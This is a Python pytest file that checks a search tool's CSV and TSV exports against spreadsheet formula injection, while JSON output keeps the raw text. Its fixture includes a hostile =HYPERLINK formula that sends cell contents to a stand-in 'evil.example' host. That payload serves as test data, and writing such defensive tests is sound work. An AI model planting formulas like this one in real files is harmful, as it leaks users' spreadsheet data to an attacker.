"""CSV and TSV exports opened in a spreadsheet: a document's text that starts as a
formula does (OWASP "CSV injection") gets a ``'`` in front; the numbers the command
writes stay numbers, and JSON shows the text as stored."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from diplosearch import Document, Hit, open_index
from diplosearch.cli import main
from diplosearch.cli_output import write_table

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik") banjir'
HOSTILE_TITLES = {"f1": HYPERLINK, "f2": "-5 derajat, banjir di puncak", "f3": "@warga banjir", "f4": "+62 banjir"}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Documents about a flood whose titles (and one source) start as formulas, and one plain."""
    path = tmp_path / "hostile"
    with open_index(path, create=True) as ix:
        ix.add_many([Document(id=doc_id, title=title, body="Banjir melanda kota.", source="tempo.co")
                     for doc_id, title in HOSTILE_TITLES.items()])
        ix.add(Document(id="p1", title="Banjir biasa", body="Banjir lagi.", source="@kompas"))
    return path


def export(index: Path, output: str) -> str:
    out, err = io.StringIO(), io.StringIO()
    code = main(["banjir", "--index", str(index), "--limit", "all", "--format", output], out=out, err=err)
    assert code == 0, err.getvalue()
    return out.getvalue()


@pytest.mark.parametrize("output, dialect", [("csv", {}), ("tsv", {"delimiter": "\t", "quoting": csv.QUOTE_NONE})])
def test_a_title_or_source_starting_as_a_formula_gets_a_quote_in_front(hostile: Path, output: str, dialect):
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(export(hostile, output)), **dialect)}
    shown = {hit["id"]: hit for hit in json.loads(export(hostile, "json"))["hits"]}
    assert set(rows) == set(shown) == {*HOSTILE_TITLES, "p1"}
    for doc_id, title in HOSTILE_TITLES.items():
        assert shown[doc_id]["title"] == title  # JSON keeps the text as stored
        assert rows[doc_id]["title"] == "'" + title
        assert rows[doc_id]["source"] == "tempo.co"
    assert rows["p1"]["title"] == "Banjir biasa" and rows["p1"]["source"] == "'@kompas"
    assert shown["p1"]["source"] == "@kompas"
    for row in rows.values():
        assert float(row["score"]) > 0 and int(row["rank"]) >= 1 and int(row["matched_terms"]) == 1


def hit(title: str, score: float) -> Hit:
    doc = Document(id="-d1", title=title, body="Banjir.", url="=1+1", path="@p.txt")
    return Hit(rank=1, id=doc.id, title=title, score=score, matched_terms=1, snippets=["+snip"], document=doc)


@pytest.mark.parametrize("separator, dialect", [(",", {}), ("\t", {"delimiter": "\t", "quoting": csv.QUOTE_NONE})])
def test_the_numbers_the_command_writes_stay_numbers_and_every_document_column_is_guarded(separator, dialect):
    out = io.StringIO()
    write_table([hit("\t=1+1", -1.5), hit("@x", 0.25)], out, separator)
    first, second = csv.DictReader(io.StringIO(out.getvalue()), **dialect)
    # a negative score is a number, never text
    assert (first["rank"], first["score"], first["matched_terms"]) == ("1", "-1.5", "1")
    assert (first["id"], first["url"], first["path"], first["snippets"]) == ("'-d1", "'=1+1", "'@p.txt", "'+snip")
    assert second["title"] == "'@x"
    if separator == ",":
        assert first["title"] == "'\t=1+1"
    else:  # TSV makes white space a space and trims it first: what is left starts as a formula
        assert first["title"] == "'=1+1"


def test_a_carriage_return_inside_a_csv_cell_is_quoted_not_a_row_break() -> None:
    out = io.StringIO()
    write_table([hit("Banjir\r=HYPERLINK(1)", 1.0), hit("\r=2+2", 0.5)], out, ",")
    lines = out.getvalue().split("\n")
    assert len(lines) == 4 and lines[-1] == "" and not any(line.endswith("\r") for line in lines)
    first, second = csv.DictReader(io.StringIO(out.getvalue()))
    assert (first["title"], second["title"]) == ("Banjir\r=HYPERLINK(1)", "'\r=2+2")
    assert first["snippets"] == "'+snip" and second["score"] == "0.5"
